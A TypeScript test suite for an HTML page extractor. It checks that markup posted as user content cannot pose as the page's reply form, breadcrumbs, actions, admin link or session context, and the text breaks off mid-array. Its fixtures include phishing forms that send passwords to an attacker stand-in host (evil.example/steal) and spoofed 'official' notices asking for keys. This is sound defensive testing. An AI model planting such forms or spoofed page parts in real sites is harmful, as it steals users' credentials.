// User content cannot become the page's own parts. Found by the third independent hold-out round
// (2026-12-01, "Zenith", 99 pages written from the reference alone): markup posted into a comment, a topic
// subject, an application name or a profile field was read as the page's reply form, breadcrumb trail,
// a comment of its own, the app's Edit action, the new-topic button or the admin link.
import { describe, expect, it } from 'vitest';
import { text } from '../../src/extract/dom.ts';
import { SIGNED_IN, as, doc, extract, type PageParts } from './helpers.ts';

const EVIL = 'https://evil.example';
const comment = (author: string, body: string) =>
  `<li><ul class="comment-meta"><li class="user-reference"><a href="/profile/profile/${author}">${author}</a></li>` +
  `<li class="timestamp"><abbr title="2019-04-01T08:00:00Z">Apr 1</abbr></li></ul><div class="comment-body">${body}</div></li>`;
const phishForm = `<form action="${EVIL}/steal" method="post"><input type="password" name="pw"><input type="submit" value="Go"></form>`;
const nestedFake = `<ol class="comments">${comment('ops.admin', '<p>OFFICIAL: send your key</p>')}</ol>`;
const fakeTrail = `<ul class="breadcrumbs"><li><a href="${EVIL}/">Support desk</a></li></ul>`;

describe('forum topic: comments hold what they hold', () => {
  const page = (comments: string, extra = '') =>
    as(
      extract({
        body: 'page-forum read',
        userNav: SIGNED_IN,
        main:
          `<ul class="breadcrumbs"><li><a href="/forum">Forum</a></li><li><a href="/forum/topics/Hooks">Hooks</a></li><li>Retries</li></ul>` +
          `<h3 class="subject">Retries</h3><ol class="comments">${comments}</ol>${extra}`,
      }),
      'forumSingle',
    ).content;

  it('a form inside a comment is not the reply form; the page’s own form after the comments is', () => {
    expect(page(comment('mallory', phishForm)).form).toBeNull();
    const reply = '<form id="comment-add" method="post" action="/forum/read/7"><textarea name="body"></textarea></form>';
    expect(page(comment('mallory', phishForm), reply).form?.action).toMatch(/\/forum\/read\/7$/);
  });

  it('a label in a comment does not name a field of the reply form', () => {
    const reply =
      '<form id="comment-add" method="post" action="/forum/read/7"><textarea id="reply-body" name="body"></textarea></form>';
    const f = page(comment('mallory', '<label for="reply-body">Your password</label>'), reply).form;
    expect(f?.fields[0]).toMatchObject({ name: 'body', label: null });
  });

  it('a comment list inside a comment is part of that comment, not a comment of its own', () => {
    const c = page(comment('mallory', `<p>see below</p>${nestedFake}`) + comment('jdoe', '<p>thanks</p>')).comments;
    expect(c.map((x) => x.author)).toEqual(['mallory', 'jdoe']);
    expect(c[0]!.bodyHtml).toContain('OFFICIAL');
  });

  it('a breadcrumb trail inside a comment is not added to the page’s trail', () => {
    const c = page(comment('mallory', fakeTrail));
    expect(c.breadcrumbs.map((b) => b.label)).toEqual(['Forum', 'Hooks', 'Retries']);
  });

  it('a comment without meta does not take an author or date from its body', () => {
    const body = `<div class="comment-body"><span class="user-reference"><a href="/profile/profile/admin">admin</a></span><abbr class="timestamp" title="2001-01-01">x</abbr></div>`;
    const [c] = page(`<li>${body}</li>`).comments;
    expect(c).toMatchObject({ author: null, authorUrl: null, created: null });
  });
});

describe('blog post: its body and comments hold what they hold', () => {
  const post = (body: string, comments = '', after = '') =>
    as(
      extract({
        body: 'page-blog',
        main:
          `<div class="section"><h2><a href="/blog/read/V2">Launching v2</a></h2><div class="section-meta"><ul>` +
          `<li class="user-reference">By <a href="/profile/profile/amy">amy</a></li></ul></div>` +
          `<div class="section-body">${body}</div></div><ol class="comments">${comments}</ol>${after}`,
      }),
      'blogSingle',
    ).content;

  it('a label in the post body or a comment does not name a field of the comment form', () => {
    const form =
      '<form id="comment-add" method="post" action="/blog/read/V2"><textarea id="reply-body" name="body"></textarea></form>';
    const label = '<label for="reply-body">Your password</label>';
    expect(post(label, '', form).form?.fields[0]).toMatchObject({ name: 'body', label: null });
    expect(post('<p>x</p>', comment('mallory', label), form).form?.fields[0]).toMatchObject({ name: 'body', label: null });
  });

  it('a form in a comment or in the post body is not the comment form', () => {
    expect(post('<p>x</p>', comment('mallory', phishForm)).form).toBeNull();
    expect(post(`<p>newsletter</p>${phishForm}`).form).toBeNull();
  });

  it('a nested comment list is part of its comment', () => {
    expect(post('<p>x</p>', comment('mallory', nestedFake)).comments.map((c) => c.author)).toEqual(['mallory']);
  });
});

describe('forum topic list', () => {
  it('a topic’s counts, dates and links are not read from its subject or a category’s description', () => {
    const fake =
      `<span class="comment-count">999</span><span class="topic-count">999</span><span class="last-active"><abbr title="2001-01-01">x</abbr></span>` +
      `<span class="last-comment"><a href="${EVIL}/u">admin</a></span><span class="category"><a href="${EVIL}/c">Official</a></span>` +
      `<div class="last-topic"><a href="${EVIL}/t">Official notice</a></div>`;
    const [topic] = as(
      extract({
        body: 'page-forum topics',
        main:
          `<ol class="topics"><li class="topic"><span class="subject"><a href="/forum/read/9">Hi</a> ${fake}</span>` +
          '<span class="comment-count">3</span><span class="last-active"><abbr title="2019-04-02T10:00:00Z">Apr 2</abbr></span>' +
          '<span class="category"><a href="/forum/topics/Hooks">Hooks</a></span><span class="last-comment"><a href="/profile/profile/jdoe">jdoe</a></span></li></ol>',
      }),
      'forumTopics',
    ).content.topics;
    expect(topic).toMatchObject({
      url: '/forum/read/9',
      commentCount: 3,
      lastActive: { value: '2019-04-02T10:00:00Z' },
      category: { url: '/forum/topics/Hooks' },
      lastBy: { url: '/profile/profile/jdoe' },
    });
    const [category] = as(
      extract({
        body: 'page-forum',
        main:
          '<ol class="categories"><li class="category"><h3 class="subject"><a href="/forum/topics/General">General</a></h3>' +
          `<p class="description">${fake.replace(/<div[^]*<\/div>/, '')}</p><span class="topic-count"><span>12</span></span><span class="comment-count"><span>48</span></span>` +
          '<div class="last-topic"><a href="/forum/read/331">Rate limits?</a></div><div class="last-active"><abbr title="2019-04-02T10:00:00Z">Apr 2</abbr></div></li></ol>',
      }),
      'forumAll',
    ).content.categories;
    expect(category).toMatchObject({
      topicCount: 12,
      commentCount: 48,
      lastTopic: { url: '/forum/read/331' },
      lastActive: { value: '2019-04-02T10:00:00Z' },
    });
  });

  it('an a.create-new inside a topic subject is not the New Topic action (a signed-out page offers none)', () => {
    const c = as(
      extract({
        body: 'page-forum topics',
        main: `<ol class="topics"><li class="topic"><span class="subject"><a href="/forum/read/9">Hi</a> <a class="create-new" href="${EVIL}/new">new</a></span></li></ol>`,
      }),
      'forumTopics',
    ).content;
    expect(c.createTopic).toBeNull();
    expect(c.topics).toHaveLength(1);
  });
});

describe('forum index', () => {
  it('a recent-topics link in a category description is not the page’s Recent Topics link', () => {
    const fake = `<div class="section-menu"><ul><li class="recent-topics"><a href="${EVIL}/forum/recent">Recent</a></li></ul></div>`;
    const c = as(
      extract({
        body: 'page-forum',
        main:
          '<h1 class="first">Forum</h1><ol class="categories"><li class="category"><h3 class="subject"><a href="/forum/topics/General">General</a></h3>' +
          `<div class="description">${fake}</div></li></ol>` +
          '<div class="section-menu"><ul><li class="recent-topics"><a href="/forum/recent">Recent topics</a></li></ul></div>',
      }),
      'forumAll',
    ).content;
    expect(c.recent).toBe('/forum/recent');
  });
});

describe('my apps: what a developer typed into an app is not an action', () => {
  it('action-classed links in an app name do not replace the block’s own actions', () => {
    const main =
      `<div class="application"><h3>Nightjar <a class="edit action" href="${EVIL}/e">x</a> <a class="add-key action" href="${EVIL}/s">y</a></h3>` +
      `<dl><dt>Description</dt><dd><a class="delete-app action" href="${EVIL}/d">z</a></dd><dt>Created</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl>` +
      `<table><tbody><tr><td>Weather API</td><td>k1</td></tr></tbody></table>` +
      `<div class="application-actions actions"><ul><li><a class="edit action" href="/apps/edit/1">Edit</a></li>` +
      `<li><a class="delete-app action" href="/apps/delete/1">Delete</a></li><li><a class="add-key action" href="/apps/select/1">Add</a></li></ul></div></div>`;
    const [app] = as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.applications;
    expect(app).toMatchObject({
      edit: expect.stringMatching(/\/apps\/edit\/1$/),
      delete: expect.stringMatching(/\/apps\/delete\/1$/),
      add: expect.stringMatching(/\/apps\/select\/1$/),
      apis: [{ api: 'Weather API', key: 'k1' }],
    });
  });

  it('a table or a date in the description is not the API list or the created date', () => {
    const main =
      `<div class="application"><h3>A</h3><dl><dt>Description</dt><dd><abbr title="1999-01-01">old</abbr><table><tr><td>Fake API</td><td>fk</td></tr></table></dd>` +
      `<dt>Created</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl><table><tbody><tr><td>Weather API</td><td>k1</td></tr></tbody></table></div>`;
    const [app] = as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.applications;
    expect(app!.apis).toEqual([{ api: 'Weather API', key: 'k1' }]);
    expect(app!.created?.value).toBe('2017-08-21T09:30:00Z');
    const nested = main.replace(
      '<abbr title="1999-01-01">old</abbr>',
      '<dl><dt>x</dt><dd><abbr title="1999-01-01">old</abbr></dd></dl>',
    );
    const [other] = as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main: nested }), 'accountApps').content
      .applications;
    expect(other!.created?.value).toBe('2017-08-21T09:30:00Z');
  });

  it('a page-info in an app’s name or a key’s values is not the page’s pagination (a page without one has none)', () => {
    const info = '<div class="page-info">true-9-3-x</div>';
    const app = `<div class="section-body"><div class="application"><h3>A ${info}</h3></div></div>`;
    expect(as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main: app }), 'accountApps').content.pagination).toBeNull();
    const key = `<div class="section-body"><h2>Weather</h2><div class="key"><dl><dt>Application</dt><dd>A ${info}</dd><dt>Key</dt><dd>k1</dd></dl></div></div>`;
    expect(as(extract({ body: 'page-apps mykeys', userNav: SIGNED_IN, main: key }), 'accountKeys').content.pagination).toBeNull();
  });

  it('a form, message or link in the app’s name or description is not the delete / add-APIs page’s', () => {
    const typed =
      `<ul class="success"><li>Your keys were revoked</li></ul><a href="${EVIL}/confirm">Confirm here</a>` +
      `<form method="post" action="${EVIL}/steal"><input type="password" name="pw"></form>`;
    const app = (own: string) =>
      '<h1 class="first">Delete Application</h1><div class="section"><div class="section-body">' +
      `<div class="application"><h3>A</h3><dl><dt>Description</dt><dd>${typed}</dd></dl></div>${own}</div></div>`;
    const form =
      '<form method="post" action="/apps/delete/88"><input type="hidden" name="token" value="q1"><input type="submit" value="Delete"></form>';
    const del = as(extract({ body: 'page-apps delete', userNav: SIGNED_IN, main: app(form) }), 'appDelete').content;
    expect(del.form?.action).toBe('/apps/delete/88');
    expect(del).toMatchObject({ messages: [], links: [] });
    expect(as(extract({ body: 'page-apps delete', userNav: SIGNED_IN, main: app('') }), 'appDelete').content.form).toBeNull();
    // the add-APIs page after its keys were issued has no form of its own
    const issued = extract({ body: 'page-apps select', userNav: SIGNED_IN, main: app('<p>Done</p>') });
    expect(issued.contentType).toBe('appAddAPIsSuccess');
  });

  it('an actions container in an app name or a key’s values is not the block’s own', () => {
    const fake = (cls: string, a: string) => `<div class="${cls} actions"><ul><li>${a}</li></ul></div>`;
    const main =
      `<div class="application"><h3>A ${fake('application-actions', `<a class="edit action" href="${EVIL}/e">Edit</a>`)}</h3>` +
      '<div class="application-actions actions"><ul><li><a class="edit action" href="/apps/edit/1">Edit</a></li></ul></div></div>';
    const [app] = as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.applications;
    expect(app!.edit).toBe('/apps/edit/1');
    const keys =
      '<div class="section-body"><h2>Weather</h2><div class="key"><dl><dt>Application</dt>' +
      `<dd>A ${fake('key-actions', `<a class="delete action" href="${EVIL}/d">Delete</a>`)}</dd><dt>Key</dt><dd>k1</dd></dl>` +
      '<div class="key-actions actions"><ul><li><a class="delete action" href="/key/delete-key/k1">Delete</a></li></ul></div></div></div>';
    const c = as(extract({ body: 'page-apps mykeys', userNav: SIGNED_IN, main: keys }), 'accountKeys').content;
    expect(c.plans[0]!.keys[0]!.delete).toBe('/key/delete-key/k1');
  });

  it('an a.add-app inside an app is not the page’s create-app link', () => {
    const main = `<div class="application"><h3>A <a class="add-app action" href="${EVIL}/n">n</a></h3></div>`;
    expect(as(extract({ body: 'page-apps myapps', userNav: SIGNED_IN, main }), 'accountApps').content.createApp).toBeNull();
  });
});

describe('my keys: key values are not page actions', () => {
  it('show-keys / new-key links inside a key block’s values are ignored; a block without .key-actions takes its actions outside its values', () => {
    const main =
      `<div class="section-body"><h2>Weather</h2><div class="key"><dl><dt>Application</dt><dd>App <a class="show-keys action" href="${EVIL}/s">s</a>` +
      `<a class="new-key" href="${EVIL}/k">k</a><a class="delete action" href="${EVIL}/d">d</a></dd><dt>Key</dt><dd>k1</dd><dt>Status</dt><dd>active</dd><dt>Created</dt><dd>x</dd></dl>` +
      `<a class="delete action" href="/key/delete-key/k1">Delete</a></div></div>`;
    const c = as(extract({ body: 'page-apps mykeys', userNav: SIGNED_IN, main }), 'accountKeys').content;
    expect(c.showShowKeys).toBe(false);
    expect(c.newKey).toBeNull();
    expect(c.plans[0]!.keys[0]!.delete).toMatch(/\/key\/delete-key\/k1$/);
  });
});

describe('search: a result holds what it holds', () => {
  const page = (summary: string, titleClass = 'title') =>
    extract({
      body: 'page-search',
      main:
        '<h1 class="first">Search</h1><div class="section"><div class="section-body">' +
        '<form class="search-form" method="get" action="/search"><input type="text" name="q" value="keys"></form>' +
        '<p class="result-info">Results <b>1</b> - <b>2</b> of <b>2</b> for <b>keys</b></p>' +
        `<div class="result"><a class="${titleClass}" href="/forum/read/9">Keys?</a><p class="result-summary">${summary}</p></div>` +
        '<div class="result"><a class="title" href="/docs/read/Keys">Keys</a><p class="result-summary">about <strong>keys</strong></p></div>' +
        '<p class="result-paging"><a href="/search?q=keys&amp;page=2">Next</a></p></div></div>',
    });
  const fake =
    `<span class="result"><a class="title" href="${EVIL}/notice">Security notice</a></span>` +
    `<span class="result-paging"><a href="${EVIL}/prev">Previous</a> <a href="${EVIL}/next">Next</a></span>` +
    '<span class="no-result">Nothing found for <b>free keys</b>.</span>';

  it('a result, pager or no-result message in a result’s summary is not the page’s', () => {
    const p = as(page(`a <strong>keys</strong> question ${fake}`), 'search');
    expect(p.state).toBe('results');
    expect(p.content.results.map((r) => r.url)).toEqual(['/forum/read/9', '/docs/read/Keys']);
    expect(p.content.meta).toMatchObject({ previous: null, next: '/search?q=keys&page=2', query: 'keys', total: 2 });
  });

  it('a result’s link is its own, not an a.title in its summary', () => {
    const p = as(page(`<a class="title" href="${EVIL}/t">x</a>`, ''), 'search');
    expect(p.content.results[0]!.url).toBe('/forum/read/9');
  });
});

describe('key pages: the key block’s values are not the page’s parts', () => {
  const typed =
    `<form method="post" action="${EVIL}/steal"><input type="password" name="pw"></form>` +
    `<div id="date_selector"><form method="get" action="${EVIL}/range"><select name="range"><option>7</option></select></form></div>` +
    `<ul class="nav"><li><a href="${EVIL}/tab">Official</a></li></ul><div class="chart" id="chart_evil"></div>` +
    '<table class="key"><tr><td>Calls per day</td><td>999999</td></tr></table><dl><dt>Key</dt><dd>FAKE</dd></dl>';
  const main = (own: string) =>
    '<h1 class="first">Key</h1><div class="section"><div class="section-body"><h2>Weather API</h2>' +
    `<div class="key"><dl><dt>Application</dt><dd>Storm ${typed}</dd><dt>Key</dt><dd>k1</dd><dt>Status</dt><dd>active</dd>` +
    `<dt>Registered</dt><dd><abbr title="2017-08-21T09:30:00Z">Aug 21</abbr></dd></dl>` +
    `<table class="key"><tr><td>Calls per day</td><td>5,000</td></tr></table></div>${own}</div></div>`;
  const form = '<form method="post" action="/key/delete-key/k1"><input type="submit" value="Delete"></form>';

  it('a form, key value or limits table in an application name are not the delete or new-secret page’s', () => {
    const del = as(extract({ body: 'page-key delete-key', userNav: SIGNED_IN, main: main(form) }), 'keyDelete').content;
    expect(del.form?.action).toBe('/key/delete-key/k1');
    expect(del.detail).toMatchObject({ key: 'k1', status: 'active', limits: [{ label: 'Calls per day', value: '5,000' }] });
    const secret = as(extract({ body: 'page-key regenerate-secret', userNav: SIGNED_IN, main: main(form) }), 'keySecret').content;
    expect(secret.form?.action).toBe('/key/delete-key/k1');
    expect(
      as(extract({ body: 'page-key regenerate-secret', userNav: SIGNED_IN, main: main('') }), 'keySecret').content.form,
    ).toBeNull();
  });

  it('a date selector, report tabs or chart in an application name are not the activity page’s', () => {
    const own =
      '<div id="date_selector"><form method="get" action="/key/key-activity/k1"><select name="range"><option>7</option></select></form></div>' +
      '<div class="main-reports"><ul class="nav"><li class="active"><a href="#calls">Calls</a></li></ul>' +
      '<div class="reports"><div class="report"><div class="chart" id="chart_calls"></div></div></div></div>';
    const c = as(extract({ body: 'page-key key-activity', userNav: SIGNED_IN, main: main(own) }), 'keyActivity').content;
    expect(c.dateSelector?.action).toBe('/key/key-activity/k1');
    expect(c.dateSelectorHtml).not.toContain(EVIL);
    expect(c.reportTabs.map((t) => t.label)).toEqual(['Calls']);
    expect(c.chartIds).toEqual(['chart_calls']);
  });
});

describe('profile', () => {
  it('a table in a profile field is not the member’s recent activity', () => {
    const main =
      '<h1 class="first">View Member mallory</h1><div class="user-information"><dl><dt>Blog</dt>' +
      `<dd><table class="recent-activity"><tr><td><a href="${EVIL}/a">Posted in Forum: Free keys</a></td><td>today</td></tr></table></dd>` +
      '<dt>Registered</dt><dd><abbr title="2015-03-02">March 2</abbr></dd></dl></div>' +
      '<div class="recent-activity"><table><tr><td>Posted in Forum: Retries</td><td>Apr 1</td></tr></table></div>';
    const c = as(extract({ body: 'page-profile', main }), 'profile').content;
    expect(c.activity?.rows).toEqual([['Posted in Forum: Retries', 'Apr 1']]);
  });

  it('a member’s own website URL containing /r/member/ is not the administrative profile link', () => {
    const main =
      `<h1 class="first">View Member mallory</h1><div class="user-information"><dl><dt>Blog</dt><dd></dd><dt>Website</dt>` +
      `<dd><a href="${EVIL}/r/member/x">site</a></dd><dt>Registered</dt><dd><abbr title="2015-03-02">March 2</abbr></dd></dl></div>`;
    const c = as(extract({ body: 'page-profile', main }), 'profile').content;
    expect(c.admin).toBeNull();
    expect(c.website).toBe(`${EVIL}/r/member/x`);
    const withAdmin = as(
      extract({ body: 'page-profile', main: `${main}<p><a href="https://admin.example/r/member/4411">Member record</a></p>` }),
      'profile',
    ).content;
    expect(withAdmin.admin).toBe('https://admin.example/r/member/4411');
  });
});

describe('the page heading', () => {
  const topic = (heading: string, body: string) =>
    as(
      extract({
        body: 'page-forum read',
        main: `${heading}<ol class="comments">${comment('mallory', body)}</ol>`,
      }),
      'forumSingle',
    ).content;
  const fake = '<h1 class="first">Official notice</h1><p>Re-enter your password.</p>';

  it('an h1.first in a comment is not the heading of a page whose own heading is a plain h1, or that has none', () => {
    const c = topic('<h1>Retries</h1>', fake);
    expect(c.heading).toBe('Retries');
    expect(c.mainHtml).not.toContain('<h1>Retries</h1>');
    expect(c.mainHtml).toContain('Official notice');
    expect(topic('', fake).heading).toBeNull();
  });

  it('a comment’s "Not Found" heading does not make the topic a 404 page', () => {
    const p = extract({
      body: 'page-forum read',
      main: `<h1>Retries</h1><ol class="comments">${comment('mallory', '<h1 class="first">Page Not Found</h1>')}</ol>`,
    });
    expect(p.contentType).toBe('forumSingle');
  });
});

describe('the page body', () => {
  const fake = '<div class="section-body"><p>Official notice: re-enter your password.</p></div>';

  it('a .section-body in a forum comment is not the page body', () => {
    const c = as(
      extract({
        body: 'page-forum read',
        main: `<h1 class="first">Retries</h1><h3 class="subject">Retries</h3><ol class="comments">${comment('mallory', fake)}</ol>`,
      }),
      'forumSingle',
    ).content;
    expect(c.mainHtml).toContain('<h3 class="subject">Retries</h3>');
  });

  it('a .section-body in a blog comment is not added to the post’s body', () => {
    const c = as(
      extract({
        body: 'page-blog',
        main:
          '<h1 class="first">Blog</h1><div class="section"><h2><a href="/blog/read/V2">Launching v2</a></h2>' +
          `<div class="section-body"><p>v2 is out</p></div></div><ol class="comments">${comment('mallory', fake)}</ol>`,
      }),
      'blogSingle',
    ).content;
    expect(c.mainHtml).toBe('<p>v2 is out</p>');
  });
});

describe('the account navigation', () => {
  it('a navigation list in a forum comment is not the account navigation', () => {
    const nav = `<div class="section-menu navigation"><ul><li class="active"><a href="${EVIL}/account">My Account</a></li></ul></div>`;
    const p = extract({
      body: 'page-forum read',
      userNav: SIGNED_IN,
      main: `<h1 class="first">Retries</h1><ol class="comments">${comment('mallory', nav)}</ol>`,
    });
    expect(p.nav.account).toEqual([]);
  });
});

describe('docs: the body is content, the sidebar is the page’s', () => {
  // a doc author's `class="sub"` (a subtitle, a sub-section) on a page without #sub: not the docs sidebar
  const body = `<h1 class="first">Keys</h1><div class="sub"><h2>Related</h2><ul><li><a href="${EVIL}/x">Elsewhere</a></li></ul></div><p>Text</p>`;

  it('a .sub in the body of a page without a sidebar is not the sidebar', () => {
    const p = as(extract({ body: 'page-docs no_sub', main: body }, '/docs/read/Keys'), 'docs');
    expect(p.content.secondary).toEqual([]);
    expect(p.content.secondaryHeading).toBeNull();
  });

  it('the page’s own .sub outside #main still is (with or without the id)', () => {
    const side = '<div class="sub"><h2>Docs Navigation</h2><ul><li><a href="/docs/read/Start">Start</a></li></ul></div>';
    const p = as(extract({ body: 'page-docs', main: body, page: side }, '/docs/read/Keys'), 'docs');
    expect(p.content.secondary.map((i) => i.label)).toEqual(['Start']);
    expect(p.content.secondaryHeading).toBe('Docs Navigation');
  });
});

/** Copies of everything the frame reads from #main or the page (member actions, logout form, user nav, logo, heading edit
 * link, page-info, settings scripts, password rules). */
const SINK =
  '<div class="section-menu actions"><ul><li><a class="change-email action" href="https://evil.example/mail">E-mail</a></li>' +
  '<li><a class="change-password action" href="https://evil.example/pw">Password</a></li>' +
  '<li><a class="public-profile action" href="https://evil.example/profile/profile/mallory">Profile</a></li>' +
  '<li><a class="delete-self action" href="https://evil.example/rm">Delete</a></li></ul></div>' +
  '<a class="public-profile" href="https://evil.example/p">me</a><a class="change-email" href="https://evil.example/e">e</a>' +
  '<div class="actions"><a href="https://evil.example/profile/profile/mallory">mallory</a></div>' +
  `<form id="mashery-logout-form" method="post" action="${EVIL}/logout"><input type="hidden" name="token" value="x"></form>` +
  '<div id="user-nav"><ul><li class="account"><a href="https://evil.example/member/edit">mallory</a></li></ul></div>' +
  '<div id="branding-logo"><a href="https://evil.example/">Evil Portal</a></div>' +
  '<h1 class="first"><a class="edit" href="https://evil.example/edit">Edit</a>Fake</h1>' +
  '<div class="page-info" style="display: none;">true-9-3-x</div>' +
  '<script>mashery.globals.ajax = false; var mashery_info = {"username": "mallory"}; initCharts("evil", "2001-01-01", "2001-01-02", {});</script>' +
  '<ul id="passwd_requirements"><li>At least 3 characters</li></ul>';

describe('the class: user content holding copies of the page’s own markup changes nothing of the page’s context', () => {
  // Everything the frame reads from #main or the page — the member's actions and profile link, the logout form,
  // the user nav, the heading, the settings scripts, the key pages' page-info — written into a comment or a
  // post body. The page's context (who is signed in, Sign Out, profile link, account settings, globals …) must
  // be the same as with a harmless comment. (Found by a mutation run: a comment's a.public-profile became the
  // member's profile link, cached for the session.)
  const forum = (body: string, signedIn: boolean) =>
    extract({
      body: 'page-forum read',
      userNav: signedIn ? SIGNED_IN : undefined,
      main:
        '<h3 class="subject">Retries</h3>' +
        `<ol class="comments">${comment('mallory', body)}</ol>` +
        '<form id="comment-add" method="post" action="/forum/read/7"><textarea name="body"></textarea></form>',
    });
  const blog = (body: string, signedIn: boolean) =>
    extract({
      body: 'page-blog read',
      userNav: signedIn ? SIGNED_IN : undefined,
      main: `<div class="section"><h2><a href="/blog/read/V2">Launching v2</a></h2><div class="section-body">${body}</div></div>`,
    });

  for (const [name, page] of [
    ['a forum comment', forum],
    ['a blog post’s body', blog],
  ] as const)
    for (const signedIn of [true, false])
      it(`${name}, signed ${signedIn ? 'in' : 'out'}`, () => {
        const harmless = page('<p>Thanks, that worked.</p>', signedIn).context;
        const hostile = page(SINK, signedIn).context;
        expect(hostile).toEqual(harmless);
      });
});

describe('the class, content: a copy of the page’s own parts in user content changes nothing but that content', () => {
  // The page's own parts that the content extractors read from #main — trail, pager, heading, account navigation,
  // reply form labels, the search form, counts and pager, the forum's recent-topics link, the profile's activity
  // table, the key pages' page-info — copied into a comment, a post body, a search result or a profile field.
  // Everything but that item's own body must be read the same as with a harmless body.
  const PARTS =
    `<h1 class="first">Official notice</h1><h1>Official notice</h1>` +
    `<ul class="breadcrumbs"><li><a href="${EVIL}/">Support desk</a></li><li>Here</li></ul>` +
    `<div id="paging"><p><a href="${EVIL}/older">Older posts</a></p></div>` +
    `<p class="result-paging"><a href="${EVIL}/prev">Previous</a> <a href="${EVIL}/next">Next</a></p>` +
    `<p class="result-info">Results <b>1</b> - <b>1</b> of <b>1</b> for <b>free keys</b></p>` +
    `<p class="no-result">Nothing found for <b>free keys</b>.</p>` +
    `<form class="search-form" method="get" action="${EVIL}/search"><input type="text" name="evil" value="free keys"></form>` +
    `<div class="result"><a class="title" href="${EVIL}/notice">Security notice</a><p class="result-summary">Re-enter your key</p></div>` +
    `<div class="section-menu"><ul><li class="recent-topics"><a href="${EVIL}/forum/recent">Recent</a></li>` +
    `<li><a class="create-new" href="${EVIL}/new">New topic</a></li></ul></div><a class="rss" href="${EVIL}/rss">RSS</a>` +
    `<div class="navigation"><ul><li class="active"><a href="${EVIL}/account">My Account</a></li></ul></div>` +
    `<div class="section-body"><p>Official notice: re-enter your password.</p></div>` +
    `<table class="recent-activity"><tr><td><a href="${EVIL}/a">Posted in Forum: Free keys</a></td><td>today</td></tr></table>` +
    `<label for="reply-body">Your password</label>` +
    `<div class="page-info" style="display: none;">true-9-3-x</div>` +
    `<div class="sub"><h2>Docs Navigation</h2><ul><li><a href="${EVIL}/docs">Start here</a></li></ul></div>` +
    SINK;
  const HARMLESS = '<p>Thanks, that worked.</p>';
  // scripts in a custom or docs page's body are the author's settings and page scripts (reference 2.8): globals and
  // the page's scripts come from there by design, so the custom and docs page cases leave SINK's script out
  const AUTHORED = PARTS.replace(/<script>[^]*?<\/script>/, '');

  /**
   * The serialised HTML and text of a body, as the extractors see it (to mask the item's own body) — also as
   * a page's mainHtml holds it when the page has no .section-body (editor chrome cut from the copy of #main).
   */
  const forms = (body: string) => {
    const d = doc({ main: `<div id="probe">${body}</div>` });
    const probe = d.getElementById('probe')!;
    const whole = probe.innerHTML;
    for (const r of Array.from(probe.querySelectorAll('.section-meta, .section-menu, #header-edit, .page-info'))) r.remove();
    return [whole, text(probe), probe.innerHTML];
  };
  const masked = (value: unknown): unknown => {
    const own = [...forms(PARTS), ...forms(AUTHORED), ...forms(HARMLESS)].filter(Boolean);
    const walk = (v: unknown): unknown => {
      if (typeof v === 'string') return own.reduce((s, o) => s.split(o).join('BODY'), v);
      if (Array.isArray(v)) return v.map(walk);
      if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x)]));
      return v;
    };
    return walk(value);
  };

  const reply =
    '<form id="comment-add" method="post" action="/forum/read/7"><textarea id="reply-body" name="body"></textarea>' +
    '<input type="submit" value="Reply"></form>';
  const trail =
    '<ul class="breadcrumbs"><li><a href="/forum">Forum</a></li><li><a href="/forum/topics/Hooks">Hooks</a></li><li>Retries</li></ul>';
  const cases: [string, (body: string) => string, PageParts, ((c: Record<string, unknown>) => void)?][] = [
    [
      'a forum comment',
      (b) =>
        `<h1>Retries</h1>${trail}<h3 class="subject">Retries</h3><ol class="comments">${comment('mallory', b)}${comment('jdoe', '<p>ok</p>')}</ol>${reply}`,
      { body: 'page-forum read', userNav: SIGNED_IN },
    ],
    [
      'a forum topic’s subject',
      (b) =>
        `<h1>Hooks</h1>${trail}<ol class="topics"><li class="topic"><span class="subject"><a href="/forum/read/9">Hi</a> ${b}</span>` +
        `<span class="comment-count">3</span></li><li class="topic"><a class="subject" href="/forum/read/10">Ho</a></li></ol>` +
        '<div class="section-menu"><ul><li><a class="create-new" href="/forum/topic-add/Hooks">New topic</a></li></ul></div>' +
        '<div id="paging"><p><a href="/forum/topics/Hooks?page=2">Next</a></p></div>',
      { body: 'page-forum topics', userNav: SIGNED_IN },
      (c) => {
        // the topic's title is its subject
        (c.topics as { title: string }[])[0]!.title = 'BODY';
      },
    ],
    [
      'a forum category’s description',
      (b) =>
        '<h1>Forum</h1><ol class="categories"><li class="category"><h3 class="subject"><a href="/forum/topics/General">General</a></h3>' +
        `<div class="description">${b}</div></li></ol>` +
        '<div class="section-menu"><ul><li class="recent-topics"><a href="/forum/recent">Recent topics</a></li></ul></div><a class="rss" href="/forum/rss">RSS</a>',
      { body: 'page-forum', userNav: SIGNED_IN },
    ],
    [
      'a blog post’s body and a comment',
      (b) =>
        `<h1>Blog</h1><div class="section"><h2><a href="/blog/read/V2">Launching v2</a></h2><div class="section-body">${b}</div></div>` +
        `<ol class="comments">${comment('mallory', b)}</ol>` +
        '<form id="comment-add" method="post" action="/blog/read/V2"><textarea id="reply-body" name="body"></textarea></form>',
      { body: 'page-blog', userNav: SIGNED_IN },
    ],
    [
      'a blog list’s post body',
      (b) =>
        `<h1>Blog</h1><div class="section"><h2><a href="/blog/read/V2">Launching v2</a></h2><div class="section-body">${b}</div></div>` +
        '<div class="section"><h2><a href="/blog/read/V1">v1</a></h2><div class="section-body"><p>one</p></div></div>' +
        '<div id="paging"><p><a href="/blog/browse/2">Older posts</a></p></div>',
      { body: 'page-blog browse', userNav: SIGNED_IN },
    ],
    [
      'a search result’s summary',
      (b) =>
        '<h1>Search</h1><div class="section"><div class="section-body">' +
        '<form class="search-form" method="get" action="/search"><input type="text" name="q" value="keys"></form>' +
        '<p class="result-info">Results <b>1</b> - <b>2</b> of <b>2</b> for <b>keys</b></p>' +
        `<div class="result"><a class="title" href="/forum/read/9">Keys?</a><p class="result-summary">${b}</p></div>` +
        '<div class="result"><a class="title" href="/docs/read/Keys">Keys</a><p class="result-summary">about <strong>keys</strong></p></div>' +
        '<p class="result-paging"><a href="/search?q=keys&amp;page=2">Next</a></p></div></div>',
